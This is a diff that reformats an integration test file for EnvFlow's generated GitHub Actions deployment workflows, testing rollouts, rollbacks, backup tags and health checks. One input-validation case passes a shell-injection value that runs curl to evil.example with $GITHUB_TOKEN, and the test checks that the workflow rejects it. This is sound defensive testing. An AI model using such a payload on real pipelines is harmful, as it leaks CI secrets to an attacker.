@@ -19,14 +19,24 @@ import { GitHubClient } from '../../../src/core/github/client';
 import { setupFiles } from '../../../src/core/setup/plan';
 import { detectStack } from '../../../src/core/setup/stack';
 import { createGitHubFixture, FIXTURE_OWNER, FIXTURE_REPO, type GitHubFixture } from '../../support/githubFixture';
-import { runWorkflow, type PipelineEnvironment, type RunRecord, type WorkflowEvent } from '../../support/pipeline/runner';
+import {
+  runWorkflow,
+  type PipelineEnvironment,
+  type RunRecord,
+  type WorkflowEvent,
+} from '../../support/pipeline/runner';
 import { openCounted } from '../git/open';
 import { CONTROL_VARIABLE, TEST_HOOKS } from './hooks';
 
 interface EnvFlowRecord {
   id: number;
   sha: string;
-  payload: { envflow?: number; kind?: string; backup?: { tag: string | null; data: string | null } | null; replaces?: number | null };
+  payload: {
+    envflow?: number;
+    kind?: string;
+    backup?: { tag: string | null; data: string | null } | null;
+    replaces?: number | null;
+  };
   statuses: { state: string; description: string }[];
 }
 
@@ -56,30 +66,51 @@ describe('pipeline: the generated workflows, run', function () {
     return play(workflow, { name: 'push', ref: `refs/heads/${branch}`, sha: commit });
   }
 
-  async function play(workflow: string, event: WorkflowEvent, overrides: Partial<PipelineEnvironment> = {}): Promise<RunRecord> {
+  async function play(
+    workflow: string,
+    event: WorkflowEvent,
+    overrides: Partial<PipelineEnvironment> = {},
+  ): Promise<RunRecord> {
     const text = await origin('show', `${event.sha}:.github/workflows/${workflow}`);
     return runWorkflow(`${text}\n`, event, { ...pipeline, ...overrides });
   }
 
   /** What EnvFlow's Roll Back sends, then the run GitHub starts for it. */
   async function dispatchDeploy(inputs: Record<string, string>, ref = config.productionBranch): Promise<RunRecord> {
-    const response = await fetch(`${fx.apiUrl}/repos/${FIXTURE_OWNER}/${FIXTURE_REPO}/actions/workflows/deploy.yml/dispatches`, {
-      method: 'POST',
-      headers: { authorization: `Bearer ${fx.token}`, accept: 'application/vnd.github+json', 'content-type': 'application/json' },
-      body: JSON.stringify({ ref, inputs }),
-    });
+    const response = await fetch(
+      `${fx.apiUrl}/repos/${FIXTURE_OWNER}/${FIXTURE_REPO}/actions/workflows/deploy.yml/dispatches`,
+      {
+        method: 'POST',
+        headers: {
+          authorization: `Bearer ${fx.token}`,
+          accept: 'application/vnd.github+json',
+          'content-type': 'application/json',
+        },
+        body: JSON.stringify({ ref, inputs }),
+      },
+    );
     assert.equal(response.status, 204, await response.text());
     const dispatched = fx.server.state.workflowDispatches.shift();
     assert.ok(dispatched);
     const head = await origin('rev-parse', `${dispatched.ref}^{commit}`);
-    return play(dispatched.workflow, { name: 'workflow_dispatch', ref: dispatched.ref, sha: head, inputs: dispatched.inputs });
+    return play(dispatched.workflow, {
+      name: 'workflow_dispatch',
+      ref: dispatched.ref,
+      sha: head,
+      inputs: dispatched.inputs,
+    });
   }
 
   /** EnvFlow's deployment records of an environment (payload envflow: 1), oldest first, with their statuses oldest first. */
   function envflowRecords(environment: string): EnvFlowRecord[] {
     const { state } = fx.server;
     return state.deployments
-      .filter((d) => d.environment === environment && typeof d.payload === 'object' && (d.payload as { envflow?: number }).envflow === 1)
+      .filter(
+        (d) =>
+          d.environment === environment &&
+          typeof d.payload === 'object' &&
+          (d.payload as { envflow?: number }).envflow === 1,
+      )
       .sort((a, b) => a.id - b.id)
       .map((d) => ({
         id: d.id,
@@ -89,7 +120,8 @@ describe('pipeline: the generated workflows, run', function () {
       }));
   }
 
-  const lines = async (name: string) => (await readFile(join(control, name), 'utf8').catch(() => '')).split('\n').filter(Boolean);
+  const lines = async (name: string) =>
+    (await readFile(join(control, name), 'utf8').catch(() => '')).split('\n').filter(Boolean);
   const live = async (environment: string) => (await readFile(join(control, `live-${environment}`), 'utf8')).trim();
   const mark = (name: string) => writeFile(join(control, name), '');
 
@@ -126,12 +158,19 @@ describe('pipeline: the generated workflows, run', function () {
     model = new RepositoryModel({
       git: (await openCounted(fx.repo.root)).repo,
       config: () => modelConfig,
-      connect: async (remote) => new GitHubClient({ apiUrl: remote.apiUrl, owner: remote.owner, repo: remote.repo, token: fx.token, retryBaseMs: 10 }),
+      connect: async (remote) =>
+        new GitHubClient({
+          apiUrl: remote.apiUrl,
+          owner: remote.owner,
+          repo: remote.repo,
+          token: fx.token,
+          retryBaseMs: 10,
+        }),
       testRecord: () => undefined,
     });
   });
 
-  it('develop deploys to development, and Promote\'s gate passes', async () => {
+  it("develop deploys to development, and Promote's gate passes", async () => {
     sha.feature = await pushCommit(config.developBranch, 'Add the cart', { 'cart.txt': 'cart\n' });
     // CI's check on develop's head (the CI workflow runs the project's tests, not part of delivery).
     fx.server.addCheckRun(sha.feature, { name: 'ci', status: 'completed', conclusion: 'success' });
@@ -140,7 +179,10 @@ describe('pipeline: the generated workflows, run', function () {
     const [record] = envflowRecords(config.developmentEnvironment);
     assert.equal(record.sha, sha.feature);
     assert.deepEqual(record.payload, { envflow: 1, kind: 'rollout', backup: null, replaces: null });
-    assert.deepEqual(record.statuses.map((s) => `${s.state} ${s.description}`), ['in_progress Rolling out · 100 %', 'success Live']);
+    assert.deepEqual(
+      record.statuses.map((s) => `${s.state} ${s.description}`),
+      ['in_progress Rolling out · 100 %', 'success Live'],
+    );
     assert.deepEqual(await lines('deploys'), [`${config.developmentEnvironment} 100 ${sha.feature}`]);
     const { snapshot } = await model.refresh('full');
     assert.equal(snapshot.development.deployment?.sha, sha.feature);
@@ -160,15 +202,26 @@ describe('pipeline: the generated workflows, run', function () {
     const [record] = envflowRecords(config.productionEnvironment);
     assert.equal(record.sha, sha.release1);
     // Nothing ran in production before: no code to tag; the data hook still ran.
-    assert.deepEqual(record.payload, { envflow: 1, kind: 'rollout', backup: { tag: null, data: 'db-1' }, replaces: null });
-    assert.deepEqual(record.statuses.map((s) => `${s.state} ${s.description}`), [
-      'in_progress Backing up',
-      'in_progress Rolling out · 10 %',
-      'in_progress Rolling out · 50 %',
-      'in_progress Rolling out · 100 %',
-      'success Live',
-    ]);
-    assert.deepEqual((await lines('deploys')).slice(-3), [10, 50, 100].map((stage) => `${config.productionEnvironment} ${stage} ${sha.release1}`));
+    assert.deepEqual(record.payload, {
+      envflow: 1,
+      kind: 'rollout',
+      backup: { tag: null, data: 'db-1' },
+      replaces: null,
+    });
+    assert.deepEqual(
+      record.statuses.map((s) => `${s.state} ${s.description}`),
+      [
+        'in_progress Backing up',
+        'in_progress Rolling out · 10 %',
+        'in_progress Rolling out · 50 %',
+        'in_progress Rolling out · 100 %',
+        'success Live',
+      ],
+    );
+    assert.deepEqual(
+      (await lines('deploys')).slice(-3),
+      [10, 50, 100].map((stage) => `${config.productionEnvironment} ${stage} ${sha.release1}`),
+    );
     assert.equal(await live(config.productionEnvironment), sha.release1);
     const { snapshot } = await model.refresh('full');
     assert.equal(snapshot.production.deployment?.sha, sha.release1);
@@ -186,16 +239,31 @@ describe('pipeline: the generated workflows, run', function () {
     assert.equal(failed.sha, sha.release2);
     assert.deepEqual(failed.statuses.at(-1), { state: 'failure', description: 'Health check failed at 50 %' });
     assert.match(failed.payload.backup?.tag ?? '', /^backup\/production-\d{8}T\d{6}Z$/);
-    assert.equal(await origin('rev-parse', `refs/tags/${failed.payload.backup?.tag}^{commit}`), sha.release1, 'the backup tag is on the commit being replaced');
+    assert.equal(
+      await origin('rev-parse', `refs/tags/${failed.payload.backup?.tag}^{commit}`),
+      sha.release1,
+      'the backup tag is on the commit being replaced',
+    );
     assert.equal(rollback.sha, sha.release1);
-    assert.deepEqual(rollback.payload, { envflow: 1, kind: 'automatic-rollback', backup: { tag: failed.payload.backup?.tag, data: null }, replaces: failed.id });
-    assert.deepEqual(rollback.statuses.map((s) => `${s.state} ${s.description}`), ['in_progress Rolling out · 100 %', `success Rolled back automatically from ${sha.release2.slice(0, 7)}`]);
+    assert.deepEqual(rollback.payload, {
+      envflow: 1,
+      kind: 'automatic-rollback',
+      backup: { tag: failed.payload.backup?.tag, data: null },
+      replaces: failed.id,
+    });
+    assert.deepEqual(
+      rollback.statuses.map((s) => `${s.state} ${s.description}`),
+      ['in_progress Rolling out · 100 %', `success Rolled back automatically from ${sha.release2.slice(0, 7)}`],
+    );
     assert.equal(await live(config.productionEnvironment), sha.release1, 'the last good commit runs again');
     const { snapshot } = await model.refresh('full');
     assert.equal(snapshot.production.deployment?.sha, sha.release1);
     assert.equal(snapshot.production.deployment?.state, 'success');
     // The model reads statuses of the newest deployment only; the failed one's own statuses are asserted above.
-    assert.ok(snapshot.production.history.some((d) => d.sha === sha.release2), 'the failed deployment stays in the history');
+    assert.ok(
+      snapshot.production.history.some((d) => d.sha === sha.release2),
+      'the failed deployment stays in the history',
+    );
   });
 
   it("EnvFlow's Roll Back dispatch makes the workflow deploy the target, and restores the matching data backup", async () => {
@@ -204,7 +272,11 @@ describe('pipeline: the generated workflows, run', function () {
     assert.equal(rollout.jobs.deploy.result, 'success', rollout.log);
     const release3 = envflowRecords(config.productionEnvironment).at(-1);
     assert.equal(await live(config.productionEnvironment), sha.release3);
-    const run = await dispatchDeploy({ target: sha.release1, reason: 'rollback', data_backup: String(release3?.payload.backup?.data) });
+    const run = await dispatchDeploy({
+      target: sha.release1,
+      reason: 'rollback',
+      data_backup: String(release3?.payload.backup?.data),
+    });
     assert.equal(run.jobs.deploy.result, 'success', run.log);
     const record = envflowRecords(config.productionEnvironment).at(-1);
     assert.equal(record?.sha, sha.release1);
@@ -229,9 +301,17 @@ describe('pipeline: the generated workflows, run', function () {
       // On main's first parents, but its only successful record is GitHub's own for the job, not EnvFlow's.
       [{ target: sha.release2, reason: 'redeploy' }, undefined, /never had a successful production deployment/],
       [{ target: 'refs/pull/1/head', reason: 'rollback' }, undefined, /The target must be a backup tag/],
-      [{ target: 'main"; curl https://evil.example/$GITHUB_TOKEN #', reason: 'rollback' }, undefined, /The target must be a backup tag/],
+      [
+        { target: 'main"; curl https://evil.example/$GITHUB_TOKEN #', reason: 'rollback' },
+        undefined,
+        /The target must be a backup tag/,
+      ],
       [{ target: sha.release1, reason: 'rollback' }, 'feature/evil', /Production deploys only from main/],
-      [{ target: 'backup/production-20990101T000000Z', reason: 'rollback' }, undefined, /There is no backup tag by that name/],
+      [
+        { target: 'backup/production-20990101T000000Z', reason: 'rollback' },
+        undefined,
+        /There is no backup tag by that name/,
+      ],
     ];
     for (const [inputs, ref, sentence] of cases) {
       const run = await dispatchDeploy(inputs, ref);
@@ -253,8 +333,14 @@ describe('pipeline: the generated workflows, run', function () {
     assert.equal(run.jobs.rollback.result, 'skipped', 'nothing to roll back');
     const record = envflowRecords(config.productionEnvironment).at(-1);
     assert.equal(record?.sha, sha.release4);
-    assert.deepEqual(record?.statuses.map((s) => `${s.state} ${s.description}`), ['in_progress Backing up', 'failure Backup failed: nothing was rolled out']);
-    assert.ok(!(await lines('deploys')).some((line) => line.endsWith(sha.release4)), 'the deploy hook never ran for it');
+    assert.deepEqual(
+      record?.statuses.map((s) => `${s.state} ${s.description}`),
+      ['in_progress Backing up', 'failure Backup failed: nothing was rolled out'],
+    );
+    assert.ok(
+      !(await lines('deploys')).some((line) => line.endsWith(sha.release4)),
+      'the deploy hook never ran for it',
+    );
     assert.equal(await live(config.productionEnvironment), sha.release1, 'production still runs what it ran');
     const { snapshot } = await model.refresh('full');
     assert.equal(snapshot.production.deployment?.sha, sha.release4);
@@ -275,19 +361,28 @@ describe('pipeline: the generated workflows, run', function () {
       await fx.repo.git('rm', '--quiet', '.envflow/health-check.sh');
       sha.noHook = await fx.repo.commit('Use the default health check');
       await fx.repo.git('push', '--quiet', 'origin', config.developBranch);
-      const overrides = { vars: { DEVELOPMENT_URL: url }, hookEnv: { ...pipeline.hookEnv, HEALTH_CHECK_INTERVAL_SECONDS: '0' } };
+      const overrides = {
+        vars: { DEVELOPMENT_URL: url },
+        hookEnv: { ...pipeline.hookEnv, HEALTH_CHECK_INTERVAL_SECONDS: '0' },
+      };
       const event: WorkflowEvent = { name: 'push', ref: `refs/heads/${config.developBranch}`, sha: sha.noHook };
       const failing = await play('deploy-development.yml', event, overrides);
       assert.equal(failing.jobs.deploy.result, 'failure');
       assert.deepEqual(answers, [503, 503, 503], 'stops at the third failed answer');
       assert.match(failing.log, /failed 3 of 3 health checks/);
-      assert.deepEqual(envflowRecords(config.developmentEnvironment).at(-1)?.statuses.at(-1), { state: 'failure', description: 'Health check failed at 100 %' });
+      assert.deepEqual(envflowRecords(config.developmentEnvironment).at(-1)?.statuses.at(-1), {
+        state: 'failure',
+        description: 'Health check failed at 100 %',
+      });
       answers.length = 0;
       answer = 200;
       const passing = await play('deploy-development.yml', event, overrides);
       assert.equal(passing.jobs.deploy.result, 'success', passing.log);
       assert.deepEqual(answers, [200, 200, 200, 200, 200]);
-      assert.deepEqual(envflowRecords(config.developmentEnvironment).at(-1)?.statuses.at(-1), { state: 'success', description: 'Live' });
+      assert.deepEqual(envflowRecords(config.developmentEnvironment).at(-1)?.statuses.at(-1), {
+        state: 'success',
+        description: 'Live',
+      });
     } finally {
       await new Promise((resolve) => site.close(resolve));
     }
